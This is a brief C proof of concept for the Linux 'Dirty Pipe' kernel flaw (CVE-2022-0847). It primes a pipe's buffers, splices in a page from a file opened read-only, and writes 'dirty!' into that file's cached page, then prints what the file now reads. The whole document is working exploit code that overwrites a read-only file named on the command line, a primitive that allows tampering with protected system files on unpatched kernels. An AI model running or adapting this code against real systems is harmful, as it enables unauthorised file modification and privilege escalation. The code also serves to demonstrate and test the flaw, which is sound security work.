/* CVE-2022-0847: a pipe whose buffers were filled and emptied takes a page of a file by splice(2), and then a write: a kernel
   that forgets to reset the buffer's flags merges the write into the file's page. dirty_pipe FILE */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/mman.h>
#include <unistd.h>

int main(int argc, char **argv) {
    int file = open(argv[1], O_RDONLY), ends[2];
    static char page[4096];
    pipe(ends);
    for (int left = fcntl(ends[1], F_GETPIPE_SZ); left > 0; left -= sizeof page) write(ends[1], page, sizeof page);
    for (int left = fcntl(ends[1], F_GETPIPE_SZ); left > 0; left -= sizeof page) read(ends[0], page, sizeof page);
    long offset = 0;
    long moved = splice(file, &offset, ends[1], 0, 1, 0);
    long merged = write(ends[1], "dirty!", 6);
    char now[7] = {0};
    pread(file, now, 6, 0);
    char *map = mmap(0, 4096, PROT_READ, MAP_SHARED, file, 0);
    printf("spliced %ld, written %ld, the file: %s, mapped: %.6s\n", moved, merged, now, map);
    return 0;
}
